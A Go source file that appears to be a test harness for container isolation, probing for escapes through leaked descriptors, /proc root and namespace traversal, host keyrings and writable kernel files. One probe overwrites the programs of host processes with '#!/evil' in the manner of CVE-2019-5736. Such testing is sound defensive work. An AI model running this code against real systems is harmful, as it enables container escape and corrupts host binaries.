package main

import (
	"bytes"
	"errors"
	"fmt"
	"io/fs"
	"os"
	"runtime"
	"strconv"
	"strings"
	"time"

	"golang.org/x/sys/unix"
)

// attacks are what a hostile program in a container tries. Each prints what it
// tries, a line that begins with ESCAPED for what worked, and "done" at its end:
// without that line it says nothing.
var attacks = map[string]func(args []string) error{
	"descriptors": listDescriptors,
	"files":       findFile,
	"programs":    overwritePrograms,
	"kernel":      openKernelFiles,
	"keys":        findKey,
	"keyring":     showKeyring,
	"calls":       forbiddenCalls,
	"socket":      askSocket,
	"swap":        swapNames,
	"mounts":      showMounts,
}

// attack plays one of them, and stays if it is told to.
func attack(args []string) error {
	f := flags("attack")
	stay := f.Bool("stay", false, "sleep at the end")
	_ = f.Parse(args)
	if f.NArg() == 0 || attacks[f.Arg(0)] == nil {
		return fmt.Errorf("no attack of that name in %q", args)
	}
	if err := attacks[f.Arg(0)](f.Args()[1:]); err != nil {
		return err
	}
	fmt.Println("done")
	for *stay {
		time.Sleep(time.Hour)
	}
	return nil
}

func escaped(format string, args ...any) { fmt.Printf("ESCAPED: "+format+"\n", args...) }

// listDescriptors tells what is open beside 0, 1 and 2, but for what Go's
// runtime has opened itself.
func listDescriptors([]string) error {
	const most = 4096
	for fd := 3; fd < most; fd++ {
		if _, err := unix.FcntlInt(uintptr(fd), unix.F_GETFD, 0); err != nil {
			continue
		}
		link, _ := os.Readlink("/proc/self/fd/" + strconv.Itoa(fd))
		switch link {
		case "anon_inode:[eventpoll]", "anon_inode:[eventfd]":
			continue
		}
		escaped("descriptor %d is %s", fd, link)
	}
	return nil
}

// findFile looks for a file of the host, by its path there, in all places where
// the kernel may show another root: of other processes, through descriptors,
// up from the working directory. The second argument is what is in it.
func findFile(args []string) error {
	path, content := args[0], args[1]
	up := strings.Repeat("../", 40)
	tried := 0
	try := func(name string) {
		tried++
		b, err := os.ReadFile(name)
		if err != nil || !bytes.Contains(b, []byte(content)) {
			return
		}
		escaped("%s is the host's", name)
	}
	try(path)
	try(up + path)
	for _, process := range append(allProcesses(), "self", "thread-self") {
		dir := "/proc/" + process
		places := []string{dir + "/root", dir + "/cwd"}
		entries, _ := os.ReadDir(dir + "/fd")
		for _, e := range entries {
			places = append(places, dir+"/fd/"+e.Name())
		}
		for _, place := range places {
			try(place + "/" + path)
			try(place + "/" + up + path)
		}
		inMountsOf(process, func() { try(path) })
	}
	fmt.Println("tried", tried)
	return nil
}

// inMountsOf calls fn in the mount namespace of a process, if that is another
// and lets us in.
func inMountsOf(process string, fn func()) {
	own, err := os.Readlink("/proc/self/ns/mnt")
	other, oerr := os.Readlink("/proc/" + process + "/ns/mnt")
	if err != nil || oerr != nil || own == other {
		return
	}
	done := make(chan struct{})
	go func() {
		defer close(done)
		runtime.LockOSThread() // and not unlocked: the thread ends
		ns, err := os.Open("/proc/" + process + "/ns/mnt")
		if err != nil {
			return
		}
		defer func() { _ = ns.Close() }()
		if unix.Unshare(unix.CLONE_FS) != nil || unix.Setns(int(ns.Fd()), unix.CLONE_NEWNS) != nil {
			return
		}
		fmt.Println("in the mount namespace of process", process)
		fn()
	}()
	<-done
}

func allProcesses() []string {
	var all []string
	entries, _ := os.ReadDir("/proc")
	for _, e := range entries {
		if _, err := strconv.Atoi(e.Name()); err == nil {
			all = append(all, e.Name())
		}
	}
	return all
}

// overwritePrograms writes to the programs of processes that are not of the
// image (CVE-2019-5736): at once and, for as long as the argument says, again
// through a descriptor that it keeps, since nobody may write to a program that
// runs.
func overwritePrograms(args []string) error {
	last, err := time.ParseDuration(args[0])
	if err != nil {
		return err
	}
	kept := map[string]*os.File{}
	seen := map[string]bool{}
	fmt.Println("looking")
	for end := time.Now().Add(last); time.Now().Before(end); {
		for _, process := range allProcesses() {
			exe := "/proc/" + process + "/exe"
			link, err := os.Readlink(exe)
			if err != nil || seen[process+link] {
				continue
			}
			f, err := os.Open(exe)
			if err != nil {
				continue
			}
			seen[process+link] = true
			if ofImage(f) {
				_ = f.Close()
				continue
			}
			fmt.Printf("opened the program of process %s: %s\n", process, link)
			kept[process+link] = f
		}
		for _, f := range kept {
			overwrite(f)
		}
	}
	return nil
}

// ofImage tells whether f is a program of the image's.
func ofImage(f *os.File) bool {
	var a, b unix.Stat_t
	for _, own := range []string{"/usr/local/bin/app", "/bin/busybox"} {
		if unix.Fstat(int(f.Fd()), &a) == nil && unix.Stat(own, &b) == nil && a.Ino == b.Ino && a.Dev == b.Dev {
			return true
		}
	}
	return false
}

func overwrite(f *os.File) {
	w, err := os.OpenFile(fmt.Sprintf("/proc/self/fd/%d", f.Fd()), os.O_WRONLY, 0)
	if err != nil {
		return
	}
	defer func() { _ = w.Close() }()
	if _, err := w.WriteString("#!/evil\n"); err == nil {
		escaped("wrote to %s", f.Name())
	}
}

// openKernelFiles opens for writing what would give it the machine.
func openKernelFiles([]string) error {
	for _, name := range []string{
		"/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe", "/proc/sys/vm/panic_on_oom", "/proc/sys/fs/binfmt_misc/register",
		"/proc/sysrq-trigger", "/proc/kcore", "/proc/kmsg", "/proc/mtrr", "/proc/irq/default_smp_affinity",
		"/sys/kernel/uevent_helper", "/sys/kernel/mm/ksm/run", "/sys/power/state", "/sys/fs/cgroup/release_agent", "/sys/fs/cgroup/cgroup.procs",
		"/dev/mem", "/dev/kmsg", "/dev/port", "/dev/fuse", "/dev/kvm", "/dev/net/tun",
	} {
		f, err := os.OpenFile(name, os.O_WRONLY, 0)
		if errors.Is(err, fs.ErrNotExist) {
			continue
		}
		fmt.Println(name, err)
		if err != nil {
			continue
		}
		if !isNull(f) {
			escaped("%s may be written", name)
		}
		_ = f.Close()
	}
	return nil
}

// isNull tells whether f is /dev/null, which lies over what is hidden.
func isNull(f *os.File) bool {
	var st unix.Stat_t
	return unix.Fstat(int(f.Fd()), &st) == nil && null(&st)
}

func null(st *unix.Stat_t) bool {
	return st.Mode&unix.S_IFMT == unix.S_IFCHR && st.Rdev == unix.Mkdev(1, 3)
}

// findKey looks in the keyrings that the process has for a key of the host's.
func findKey(args []string) error {
	for name, ring := range map[string]int{
		"session": unix.KEY_SPEC_SESSION_KEYRING, "user": unix.KEY_SPEC_USER_KEYRING,
		"user session": unix.KEY_SPEC_USER_SESSION_KEYRING, "process": unix.KEY_SPEC_PROCESS_KEYRING,
	} {
		id, err := unix.KeyctlSearch(ring, "user", args[0], 0)
		fmt.Printf("%s keyring: %v\n", name, err)
		if err == nil {
			escaped("the %s keyring has key %d", name, id)
		}
	}
	return nil
}

// showKeyring prints the number of the session keyring.
func showKeyring([]string) error {
	id, err := unix.KeyctlGetKeyringID(unix.KEY_SPEC_SESSION_KEYRING, false)
	fmt.Println(id)
	return err
}
